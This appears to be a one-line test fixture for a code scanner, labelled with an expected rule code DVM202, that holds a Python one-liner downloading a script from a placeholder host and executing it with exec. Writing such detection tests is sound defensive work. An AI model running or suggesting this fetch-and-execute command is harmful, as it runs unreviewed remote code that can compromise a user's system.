# expect: DVM202
python3 -c 'import urllib.request as u; exec(u.urlopen("https://example.org/i.py").read())'
